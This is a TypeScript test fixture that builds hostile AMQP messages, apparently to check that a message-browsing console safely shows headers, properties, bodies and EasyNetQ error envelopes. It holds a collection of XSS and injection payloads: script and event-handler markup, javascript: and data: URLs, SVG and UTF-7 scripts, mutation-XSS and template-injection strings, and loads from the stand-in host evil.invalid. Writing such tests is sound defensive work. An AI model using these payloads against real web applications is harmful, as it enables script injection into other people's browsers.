import { gzipSync } from 'node:zlib';

import type { HeaderTable, MessageContents } from '../../server/amqp/message.ts';

/**
 * What somebody would publish, or type, who wants the console to run their markup, or to ask their server for something.
 * Wherever it ends up as markup there is a `hostile-x` element; whatever of it runs sets `__owned`; whatever it loads comes
 * from `evil.invalid`.
 */
const OWN = '__owned=1';
const EVIL = '//evil.invalid';

/** Fits wherever a name fits: 60 bytes. */
export const HOSTILE_NAME = `<hostile-x><img src=${EVIL} onerror=${OWN}>`;

/** Each at most 180 bytes, so that it is an order ID, a routing key and a header's name too. */
export const HOSTILE_TEXTS = [
  HOSTILE_NAME,
  `"><hostile-x autofocus tabindex=0 onfocus=${OWN}>`,
  `'/><hostile-x><details open ontoggle=${OWN}>`,
  `<hostile-x><script>${OWN}</script><script src=${EVIL}/x.js></script>`,
  `</title></textarea></style></script></pre><hostile-x><svg onload=${OWN}>`,
  `<hostile-x><iframe srcdoc="<script>parent.${OWN}</script>"></iframe>`,
  `<hostile-x><style>@import '${EVIL}/x.css'; *{background:url(${EVIL}/b)}</style>`,
  `<hostile-x><link rel=stylesheet href=${EVIL}><base href=${EVIL}><meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<math><mtext><table><mglyph><style><!--</style><hostile-x title="--&gt;&lt;img src=1 onerror=${OWN}&gt;">`,
  `javascript:${OWN}//<hostile-x>`,
  `data:text/html,<hostile-x><script>top.${OWN}</script>`,
  `[hostile](javascript:${OWN}) ![hostile-x](https:${EVIL}/x.png) https:${EVIL}/`,
  `{{constructor.constructor('${OWN}')()}}\${${OWN}}<%= ${OWN} %><hostile-x>`,
  // The translations' own marks: values, plural forms, and what stands in for a field.
  `%{smart_count} |||| %{_} \u0000count\u0000 <hostile-x>`,
  `\u202e\u2066\u200b\ufeff<hostile-x>\u001b]0;owned\u0007\r\n\t`,
  '__proto__',
] as const;

/** Bodies that a browser would run, draw or load if it took them for what they say they are. */
const HOSTILE_BODIES: readonly { contentType: string; contentEncoding?: string; body: string | Buffer }[] = [
  { contentType: 'text/html', body: `<!doctype html><hostile-x><script>${OWN}</script><img src=${EVIL}>` },
  {
    contentType: 'image/svg+xml',
    body: `<svg xmlns="http://www.w3.org/2000/svg" onload="${OWN}"><script>${OWN}</script><image href="${EVIL}"/></svg>`,
  },
  { contentType: 'image/png', body: `<svg xmlns="http://www.w3.org/2000/svg" onload="${OWN}"/>` },
  { contentType: `image/png"><hostile-x onclick=${OWN}>`, body: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0xff]) },
  { contentType: 'application/xml', body: `<?xml-stylesheet href="${EVIL}/x.xsl"?><!DOCTYPE a SYSTEM "${EVIL}"><a/>` },
  { contentType: 'text/html; charset=utf-7', body: '+ADw-script+AD4-__owned=1+ADw-/script+AD4-' },
  { contentType: 'text/html', contentEncoding: 'gzip', body: gzipSync(`<hostile-x><script>${OWN}</script>`) },
];

/** Where a hostile message says that it comes from. */
export interface HostileOrigin {
  exchange: string;
  routingKey: string;
  queue: string;
}

/** Every text in every place of a message that somebody else fills, and every body. */
export function hostileMessages(from: HostileOrigin): MessageContents[] {
  return [
    ...HOSTILE_TEXTS.map((text, index) => hostileMessage(text, from, index)),
    ...HOSTILE_BODIES.map(({ contentType, contentEncoding, body }, index) => ({
      properties: { contentType, ...(contentEncoding === undefined ? {} : { contentEncoding }) },
      headers: failure(`body ${index}`, from),
      body: Buffer.from(body),
    })),
    inAnEnvelope(from),
  ];
}

function hostileMessage(text: string, from: HostileOrigin, index: number): MessageContents {
  return {
    properties: {
      contentType: index % 2 === 0 ? 'application/json' : text,
      contentEncoding: index % 2 === 0 ? 'utf-8' : text,
      messageId: text,
      correlationId: text,
      replyTo: text,
      type: text,
      appId: text,
      clusterId: text,
    },
    headers: [
      ...failure(text, from),
      { name: 'order-id', type: 'string', value: text },
      { name: text, type: 'string', value: text },
      {
        name: 'nested',
        type: 'table',
        value: [{ name: text, type: 'array', value: [{ type: 'string', value: text }] }],
      },
      { name: 'bytes', type: 'bytes', value: Buffer.from(text).toString('base64') },
    ],
    body: Buffer.from(JSON.stringify({ [text]: text, list: [text, { [text]: null }] })),
  };
}

function failure(text: string, { exchange, routingKey, queue }: HostileOrigin): HeaderTable {
  return [
    { name: 'x-failure-type', type: 'string', value: text },
    { name: 'x-failure-message', type: 'string', value: text },
    {
      name: 'x-failure-stack',
      type: 'string',
      value: `${text}: ${text}\n    at ${text} (${text}:1:1)\nCaused by: ${text}`,
    },
    { name: 'x-failure-exchange', type: 'string', value: exchange },
    { name: 'x-failure-routing-key', type: 'string', value: routingKey },
    { name: 'x-failure-queue', type: 'string', value: queue },
  ];
}

/** EasyNetQ's: the message, its properties and its headers are texts inside a body. */
function inAnEnvelope({ exchange, routingKey, queue }: HostileOrigin): MessageContents {
  const envelope = {
    RoutingKey: routingKey,
    Exchange: exchange,
    Queue: queue,
    Exception: `${HOSTILE_NAME}: ${HOSTILE_NAME}\n   at ${HOSTILE_NAME}`,
    Message: `{"orderId":"${HOSTILE_NAME}"}`,
    DateTime: '2026-11-22T07:00:00.1234567Z',
    BasicProperties: { ContentType: HOSTILE_NAME, MessageId: HOSTILE_NAME, Headers: { [HOSTILE_NAME]: HOSTILE_NAME } },
  };
  return {
    properties: { type: 'EasyNetQ.SystemMessages.Error, EasyNetQ', contentType: 'application/json' },
    body: Buffer.from(JSON.stringify(envelope)),
  };
}
